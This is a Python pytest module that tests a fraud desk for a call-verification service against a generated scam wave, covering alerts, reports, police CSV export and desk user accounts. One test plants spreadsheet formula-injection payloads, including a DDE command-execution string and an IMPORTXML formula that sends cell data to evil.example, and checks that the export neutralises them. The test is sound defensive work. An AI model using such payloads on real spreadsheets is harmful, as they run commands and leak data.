"""The fraud desk's views and its users, against a generated scam wave (spec/fraud-desk.md).

The wave, on a fixed clock, ends at ``NOW`` (2026-11-23 09:30 UTC):

- reports naming the same scammer's number over days (one 8 days back: in 30 days, not in 7),
  one of them with a customer's phone number, name and ref typed into its free text;
- an evening of codes nobody issued: 5 failed lookups at 06:05, 21 in the minute of 06:20 (the
  budget is 20 here: the 21st trips the breaker), 3 at 07:10, 1 at 09:10;
- calls answered "No" by three customers, a wrong check word, a code entered on a second
  device, a ticket changed in the database, a reveal without a connected call, a capped reveal;
- then three more reports.
"""

from __future__ import annotations

import csv
import io
import json
import statistics
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, insert, select, update

from callproof import (
    CheckFailed,
    CheckFlow,
    DeskUser,
    DeskUsers,
    FixedClock,
    FraudDesk,
    InputError,
    Issuer,
    NotFound,
    init_data_dir,
    new_client_token,
)
from callproof.deployment import Deployment
from callproof.enrollment import EnrolledProofs
from callproof.fraud import ALERT_KINDS, POLICE_CSV_HEADER, csv_cell
from callproof.protocol.codes import new_code
from callproof.protocol.events import REPORT_SCRIPTS as SCRIPTS
from callproof.scam_reports import Reports
from callproof.store import schema
from callproof.store.events import read_events

from .conftest import World

NOW = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
NUMBER_A = "+886223456789"  # the wave's scammer, reported again and again
NUMBER_B = "+886287654321"
NUMBER_C = "+886233334444"
CUSTOMER_PHONE = "+886955519087"
CUSTOMER_REF = "C-20261123-CHEN"
PLANTED_TEXT = "He knew my number 0912-345-678, my customer no. C-77123 and my name Chen Da-Wei"


@dataclass
class Wave:
    """A data dir after a scam wave, and what was put into it."""

    path: Path
    clock: FixedClock
    dep: Deployment
    failed_by_hour: dict[datetime, int] = field(default_factory=dict)
    # (kind, agent) of every alert, oldest first
    expected: list[tuple[str, str | None]] = field(default_factory=list)


def _day_config(path: Path) -> None:
    """A small breaker budget and a customer reveal cap of one, so the wave trips both."""
    config = path / "config.toml"
    text = config.read_text("utf-8")
    text = text.replace("global_failure_budget = 600", "global_failure_budget = 20")
    text = text.replace("reveals_per_customer_hour = 3", "reveals_per_customer_hour = 1")
    config.write_text(text, "utf-8")


def make_wave(path: Path, *, now: datetime = NOW) -> Wave:
    """Generate the scam wave described in the module's docstring, ending at ``now``."""
    clock = FixedClock(now - timedelta(days=10))
    init_data_dir(path, now=clock.now())
    _day_config(path)
    dep = Deployment.open(path, clock=clock)
    wave = Wave(path, clock, dep)
    issuer, flow, reports = Issuer(dep), CheckFlow(dep), Reports(dep)
    proofs = EnrolledProofs(dep)

    def at(when: datetime) -> None:
        assert when >= clock.now(), "the wave only moves forward"
        clock.set(when)

    def miss() -> None:
        with pytest.raises(CheckFailed):
            flow.lookup(new_code(), new_client_token())
        hour = clock.now().replace(minute=0, second=0, microsecond=0)
        wave.failed_by_hour[hour] = wave.failed_by_hour.get(hour, 0) + 1

    def expect(kind: str, agent: str | None) -> None:
        wave.expected.append((kind, agent))

    at(now - timedelta(days=8))
    reports.file(scripts=["refund"], caller_number="02 2345 6789", text=PLANTED_TEXT)
    at(now - timedelta(days=3))
    reports.file(scripts=["refund", "transfer_or_loan"], caller_number="+886 2 2345 6789")
    at(now - timedelta(days=2))
    reports.file(scripts=["screen_sharing"])
    at(now - timedelta(hours=23))
    reports.file(scripts=["verification_code"], caller_number="02 8765 4321")

    # The evening's codes nobody issued.
    base = now.replace(hour=6, minute=0)
    at(base + timedelta(minutes=5))
    for _ in range(5):
        miss()
    at(base + timedelta(minutes=20))
    for i in range(21):
        at(base + timedelta(minutes=20, seconds=i))
        miss()
    expect("budget_tripped", None)
    at(base + timedelta(hours=1, minutes=10))
    for _ in range(3):
        miss()

    def call(agent: str, *, ref: str | None = None) -> tuple[str, str, str]:
        made = issuer.issue(agent_id=agent, reason="payment_failed", phone=CUSTOMER_PHONE,
                            customer_ref=ref)
        client = new_client_token()
        flow.lookup(made.code, client)
        return made.ticket_id, made.code, client

    # Three customers answer "No": their phone is another one (a relay scam).
    for minute in (0, 15, 30):
        at(now.replace(hour=8, minute=minute))
        tid, _, client = call("a-002")
        with pytest.raises(CheckFailed):
            flow.answer_number(tid, client, yes=False)
        expect("number_denied", "a-002")
    at(now.replace(hour=8, minute=40))
    tid, _, client = call("a-001")
    flow.answer_number(tid, client, yes=True)
    right = issuer.status(tid).check_word
    assert right is not None
    wrong = next(w.id for w in flow.current_step(tid, client).choices if w.id != right.id)
    with pytest.raises(CheckFailed):
        flow.choose_word(tid, client, wrong)
    expect("word_wrong", "a-001")
    at(now.replace(hour=8, minute=50))
    tid, code, _ = call("a-003")
    with pytest.raises(CheckFailed):  # the same code on a second device
        flow.lookup(code, new_client_token())
    expect("claimed_elsewhere", "a-003")
    wave.failed_by_hour[now.replace(hour=8, minute=0)] = 1  # that refusal counts as a failure
    at(now.replace(hour=9, minute=0))
    first = issuer.issue(agent_id="a-001", reason="payment_failed", phone=CUSTOMER_PHONE)
    other = issuer.issue(agent_id="a-001", reason="payment_failed", phone=CUSTOMER_PHONE)
    with dep.store.write() as conn:  # someone swaps a stored ticket for another
        token = conn.execute(select(schema.tickets.c.token).where(
            schema.tickets.c.ticket_id == other.ticket_id)).scalar_one()
        conn.execute(update(schema.tickets).where(
            schema.tickets.c.ticket_id == first.ticket_id).values(token=token))
    with pytest.raises(CheckFailed):
        flow.lookup(first.code, new_client_token())
    expect("tampered", "a-001")
    at(now.replace(hour=9, minute=5))
    proofs.set_phrase("blue mango river", customer_ref=CUSTOMER_REF)
    made = issuer.issue(agent_id="a-002", reason="payment_failed", customer_ref=CUSTOMER_REF)
    proofs.reveal(made.ticket_id, allow_unconnected=True)
    expect("reveal_unconnected", "a-002")
    at(now.replace(hour=9, minute=6))
    made = issuer.issue(agent_id="a-002", reason="payment_failed", customer_ref=CUSTOMER_REF)
    issuer.connected(made.ticket_id)
    with pytest.raises(InputError):
        proofs.reveal(made.ticket_id)  # over the customer's cap of one an hour
    expect("reveal_capped", "a-002")
    at(now.replace(hour=9, minute=8))  # the voice line: an agent's transfer target changes
    from callproof.voice.routes import Routes
    Routes(dep).set("a-002", transfer_target="sip:chen.wei@pbx.shop.example")
    expect("route_changed", "a-002")
    at(now.replace(hour=9, minute=10))
    miss()
    for minute, number, scripts in ((15, "02 2345 6789", ["refund", "transfer_or_loan"]),
                                    (20, "+886-2-2345-6789", ["transfer_or_loan", "refund"]),
                                    (25, "02 3333 4444", ["card_or_bank"])):
        at(now.replace(hour=9, minute=minute))
        reports.file(scripts=scripts, caller_number=number)
    at(now)
    return wave


@pytest.fixture
def wave(tmp_path: Path, backend: str) -> Iterator[Wave]:
    made = make_wave(tmp_path / "data")
    yield made
    made.dep.store.close()


# --- alerts ---------------------------------------------------------------------------------


def test_the_wave_raises_every_kind_of_alert_newest_first_with_its_agent(wave: Wave) -> None:
    alerts = FraudDesk(wave.dep).alerts()
    assert [(a.kind, a.agent_id) for a in alerts] == list(reversed(wave.expected))
    assert {a.kind for a in alerts} == set(ALERT_KINDS)
    assert [a.idx for a in alerts] == sorted((a.idx for a in alerts), reverse=True)
    assert all(a.at <= NOW and a.at.tzinfo is not None for a in alerts)
    by_kind = {a.kind: a for a in alerts}
    tripped = by_kind["budget_tripped"]
    assert tripped.ticket_id is None and tripped.reason is None
    assert tripped.details["count"] == 21 and tripped.details["budget"] == 20
    assert by_kind["number_denied"].reason == "payment_failed"
    assert by_kind["tampered"].details == {"check": "cdh_mismatch"}
    assert by_kind["reveal_unconnected"].details == {"allowed": True}
    assert by_kind["reveal_capped"].details == {"cap": "customer_cap"}
    as_json = tripped.to_json()
    assert set(as_json) == {"idx", "kind", "at", "ticket_id", "agent_id", "reason", "details"}
    assert as_json["at"] == "2026-11-23T06:20:20Z"


def test_alerts_page_through_after_limit_and_now(wave: Wave) -> None:
    desk = FraudDesk(wave.dep)
    every = desk.alerts()
    assert desk.alerts(limit=2) == every[:2]
    newest_seen = every[3].idx
    assert desk.alerts(after=newest_seen) == every[:3]  # what a live page polls for
    assert desk.alerts(after=every[0].idx) == []
    earlier = desk.alerts(now=NOW.replace(hour=8, minute=45))
    assert [a.kind for a in earlier][:2] == ["word_wrong", "number_denied"]
    with pytest.raises(InputError):
        desk.alerts(limit=0)


def test_nothing_on_the_desk_identifies_a_customer(wave: Wave) -> None:
    desk = FraudDesk(wave.dep)
    with wave.dep.store.read() as conn:
        handles = [h for (h,) in conn.execute(select(schema.tickets.c.handle)) if h]
    assert handles
    shown = json.dumps([a.to_json() for a in desk.alerts()])
    shown += desk.police_csv(days=30) + repr(desk.police_facts(days=30))
    for secret in [*handles, CUSTOMER_PHONE, "0955519087", CUSTOMER_REF, "0912",
                   "C-77123", "Chen", "blue mango"]:
        assert secret not in shown


# --- failed lookups -------------------------------------------------------------------------


def test_failed_lookups_per_hour_count_every_hour_and_zeros(wave: Wave) -> None:
    hours = FraudDesk(wave.dep).failed_lookups_per_hour(hours=8)
    assert [h.hour for h in hours] == [NOW.replace(minute=0) - timedelta(hours=7 - i)
                                      for i in range(8)]
    assert [h.count for h in hours] == [wave.failed_by_hour.get(h.hour, 0) for h in hours]
    assert [h.count for h in hours] == [0, 0, 0, 0, 26, 3, 1, 1]
    day = FraudDesk(wave.dep).failed_lookups_per_hour()
    assert len(day) == 24 and day[-1].hour == NOW.replace(minute=0)
    assert sum(h.count for h in day) == 31
    with pytest.raises(InputError):
        FraudDesk(wave.dep).failed_lookups_per_hour(hours=0)


# --- reports --------------------------------------------------------------------------------


def test_reports_by_number_and_script_over_1_7_30_days(wave: Wave) -> None:
    desk = FraudDesk(wave.dep)
    one, week, month = (desk.reports(days=d) for d in (1, 7, 30))
    assert (one.total, week.total, month.total) == (4, 6, 7)
    assert (one.without_number, week.without_number, month.without_number) == (0, 1, 1)
    assert [(n.number, n.reports) for n in one.by_number] == \
        [(NUMBER_A, 2), (NUMBER_C, 1), (NUMBER_B, 1)]  # most first, then the latest
    assert [(n.number, n.reports) for n in week.by_number][0] == (NUMBER_A, 3)
    a_month = month.by_number[0]
    assert (a_month.number, a_month.reports) == (NUMBER_A, 4)  # the one 8 days back too
    assert a_month.first_at == NOW - timedelta(days=8)
    assert a_month.last_at == NOW.replace(minute=20)
    assert dict(a_month.scripts) == {"refund": 4, "transfer_or_loan": 3}
    assert [(s.script, s.reports) for s in week.by_script] == [
        ("refund", 3), ("transfer_or_loan", 3), ("verification_code", 1), ("card_or_bank", 1),
        ("screen_sharing", 1), ("install_app", 0), ("open_link", 0)]
    assert {s.script for s in one.by_script} == set(SCRIPTS)
    assert week.since == NOW - timedelta(days=7) and week.until == NOW
    for bad in (0, 2, 31):
        with pytest.raises(InputError) as refused:
            desk.reports(days=bad)
        assert refused.value.reason == "bad_window"


# --- the police facts -----------------------------------------------------------------------


def test_police_facts_list_every_report_and_count_alerts_and_lookups(wave: Wave) -> None:
    facts = FraudDesk(wave.dep).police_facts(days=30)
    assert facts.issuer == wave.dep.issuer_id and facts.company == "Example Shop"
    assert facts.generated_at == NOW and facts.since == NOW - timedelta(days=30)
    assert len(facts.reports) == 7
    assert [r.at for r in facts.reports] == sorted(r.at for r in facts.reports)
    assert facts.reports[0].caller_number == NUMBER_A and facts.reports[0].scripts == ("refund",)
    assert facts.summary.total == 7
    assert dict(facts.alerts_by_kind) == {
        "number_denied": 3, "word_wrong": 1, "claimed_elsewhere": 1, "budget_tripped": 1,
        "reveal_unconnected": 1, "reveal_capped": 1, "tampered": 1}
    assert facts.failed_lookups == 31
    week = FraudDesk(wave.dep).police_facts(days=7)
    assert len(week.reports) == 6
    with pytest.raises(InputError):
        FraudDesk(wave.dep).police_facts(days=0)


def test_police_csv_has_a_header_one_row_per_report_and_no_free_text(wave: Wave) -> None:
    text = FraudDesk(wave.dep).police_csv(days=30)
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == POLICE_CSV_HEADER
    assert len(rows) == 1 + 7
    assert rows[1] == ["2026-11-15T09:30:00Z", "'" + NUMBER_A, "refund"]
    assert rows[2] == ["2026-11-20T09:30:00Z", "'" + NUMBER_A, "refund;transfer_or_loan"]
    assert rows[3] == ["2026-11-21T09:30:00Z", "", "screen_sharing"]
    for planted in ("0912", "345-678", "C-77123", "Chen", "Da-Wei", "knew"):
        assert planted not in text
    assert len(list(csv.reader(io.StringIO(FraudDesk(wave.dep).police_csv(days=7))))) == 1 + 6


def test_police_csv_neutralises_cells_a_spreadsheet_would_run(wave: Wave) -> None:
    # Reports.file only stores E.164 numbers and known scripts; rows written some other way
    # (an older version, a hand edit) must still not become formulas in the police's sheet.
    with wave.dep.store.write() as conn:
        planted = [('=HYPERLINK("http://e.x")', "refund"), ("@SUM(A1:A9)", "-2+3"),
                   ("-1", "=cmd|' /C calc'!A0"), ("\t=1", "refund")]
        for i, (number, scripts) in enumerate(planted):
            conn.execute(insert(schema.scam_reports).values(
                report_id=f"r_evil{i}", issuer_id=wave.dep.issuer_id,
                at=int((NOW - timedelta(minutes=1)).timestamp()), caller_number=number,
                scripts=scripts, text="=IMPORTXML(CONCAT(\"http://evil.example/?\",A1))"))
    text = FraudDesk(wave.dep).police_csv(days=1)
    cells = [c for row in list(csv.reader(io.StringIO(text)))[1:] for c in row]
    assert cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'=HYPERLINK" in text and "'@SUM" in text and "'-2+3" in text and "'=cmd" in text
    assert "IMPORTXML" not in text  # the free text is never exported
    assert csv_cell("Refund") == "Refund" and csv_cell("+886") == "'+886"


# --- desk users -----------------------------------------------------------------------------


PASSWORD = "correct horse battery staple"


@pytest.fixture
def users(world: World) -> DeskUsers:
    return DeskUsers(world.deployment)


def test_a_desk_user_signs_in_with_the_right_password_only(users: DeskUsers) -> None:
    added = users.add("f-01", "Lin, fraud team", PASSWORD)
    assert (added.user_id, added.name, added.enabled) == ("f-01", "Lin, fraud team", True)
    assert users.check("f-01", PASSWORD) == added
    assert users.check("f-01", PASSWORD + "!") is None
    assert users.check("f-01", "") is None
    assert users.check("f-02", PASSWORD) is None  # unknown id
    assert users.check("x" * 500, PASSWORD) is None
    assert users.get("f-01") == added and users.get("nobody") is None
    assert users.list() == [added]


def test_weak_bad_and_taken_are_refused(users: DeskUsers) -> None:
    with pytest.raises(InputError) as weak:
        users.add("f-01", "Lin", "short")
    assert weak.value.reason == "weak"
    with pytest.raises(InputError) as bad:
        users.add("f 01", "Lin", PASSWORD)
    assert bad.value.reason == "bad_id"
    users.add("f-01", "Lin", PASSWORD)
    with pytest.raises(InputError) as taken:
        users.add("f-01", "Someone else", PASSWORD)
    assert taken.value.reason == "exists"
    with pytest.raises(InputError) as weak_again:
        users.set_password("f-01", "x" * 11)
    assert weak_again.value.reason == "weak"
    assert users.check("f-01", PASSWORD) is not None


def test_disabled_users_cannot_sign_in_until_enabled(users: DeskUsers) -> None:
    users.add("f-01", "Lin", PASSWORD)
    users.set_enabled("f-01", False)
    assert users.check("f-01", PASSWORD) is None
    assert users.get("f-01") == DeskUser("f-01", "Lin", False)
    users.set_enabled("f-01", True)
    assert users.check("f-01", PASSWORD) is not None


def test_a_new_password_replaces_the_old_one(users: DeskUsers) -> None:
    users.add("f-01", "Lin", PASSWORD)
    users.set_password("f-01", "a new and longer passphrase")
    assert users.check("f-01", PASSWORD) is None
    assert users.check("f-01", "a new and longer passphrase") is not None


def test_unknown_users_are_not_found(users: DeskUsers) -> None:
    with pytest.raises(NotFound):
        users.set_password("ghost", PASSWORD)
    with pytest.raises(NotFound):
        users.set_enabled("ghost", False)


def test_desk_user_events_hold_ids_and_never_a_password_or_name(users: DeskUsers) -> None:
    users.add("f-01", "Lin Mei-Hua", PASSWORD)
    users.set_password("f-01", "a new and longer passphrase")
    users.set_enabled("f-01", False)
    users.set_enabled("f-01", True)
    dep = users.dep
    with dep.store.read() as conn:
        desk = [e for e in read_events(conn, dep.issuer_id) if e.type.startswith("desk.")]
        hashes = [h for (h,) in conn.execute(select(schema.desk_users.c.password_hash))]
    assert [(e.type, e.data) for e in desk] == [
        ("desk.user_added", {"user_id": "f-01"}), ("desk.password_set", {"user_id": "f-01"}),
        ("desk.user_disabled", {"user_id": "f-01"}), ("desk.user_enabled", {"user_id": "f-01"})]
    assert hashes[0].startswith("$argon2id$")
    dumped = repr(desk)
    for secret in (PASSWORD, "passphrase", "Lin Mei-Hua", hashes[0]):
        assert secret not in dumped


def test_an_unknown_id_costs_as_much_as_a_wrong_password(users: DeskUsers) -> None:
    users.add("f-01", "Lin", PASSWORD)

    def cost(user_id: str) -> float:
        started = time.perf_counter()
        assert users.check(user_id, "not the password at all") is None
        return time.perf_counter() - started

    known = statistics.median(cost("f-01") for _ in range(3))
    unknown = statistics.median(cost("nobody-here") for _ in range(3))
    assert unknown > 0.3 * known  # an Argon2id verification either way, not a quick "no"


def test_a_reports_free_text_is_forgotten_after_its_retention(world: World) -> None:
    """Hardening item 10: the text a customer writes may identify them; housekeeping forgets it
    after ``report_text_days`` (30 by default) and keeps the number and scripts."""
    reports = Reports(world.deployment)
    old = reports.file(scripts=["refund"], caller_number="+886 2 2345 6789",
                       text="he knew my order number 1234", now=world.clock.now())
    world.clock.advance(seconds=29 * 86_400)
    recent = reports.file(scripts=["refund"], text="same again", now=world.clock.now())
    world.clock.advance(seconds=2 * 86_400)
    assert reports.purge_texts(now=world.clock.now()) == 1
    t = schema.scam_reports
    with world.deployment.store.read() as conn:
        rows = {r.report_id: r for r in conn.execute(select(t))}
    assert rows[old].text is None and rows[old].caller_number == "+886223456789"
    assert rows[old].scripts == "refund" and rows[recent].text == "same again"


def test_one_connection_cannot_fill_the_reports(world: World) -> None:
    """Hardening item 3: 300 reports naming one number from one address made 300 of 301
    police-CSV rows. Now an address files at most reports_per_address_hour (5) an hour, and a
    network at most reports_per_network_hour (30); past that nothing is kept."""
    reports, limits = Reports(world.deployment), world.deployment.config.limits
    for _ in range(limits.reports_per_address_hour):
        reports.file(scripts=["refund"], caller_number="+886 2 2345 6789",
                     client_address="198.51.100.7")
    with pytest.raises(InputError) as refused:
        reports.file(scripts=["refund"], caller_number="+886 2 2345 6789",
                     client_address="198.51.100.7")
    assert refused.value.reason == "too_many_reports"
    for i in range(limits.reports_per_network_hour - limits.reports_per_address_hour):
        reports.file(scripts=["refund"], client_address=f"198.51.100.{10 + i}")
    with pytest.raises(InputError):  # the network's budget is spent, whatever the address
        reports.file(scripts=["refund"], client_address="198.51.100.250")
    reports.file(scripts=["refund"], client_address="203.0.113.9")  # another network files
    with world.deployment.store.read() as conn:
        kept = conn.execute(select(func.count()).select_from(schema.scam_reports)).scalar_one()
    assert kept == limits.reports_per_network_hour + 1
    world.clock.advance(seconds=3600)  # the next hour
    reports.file(scripts=["refund"], client_address="198.51.100.7", now=world.clock.now())
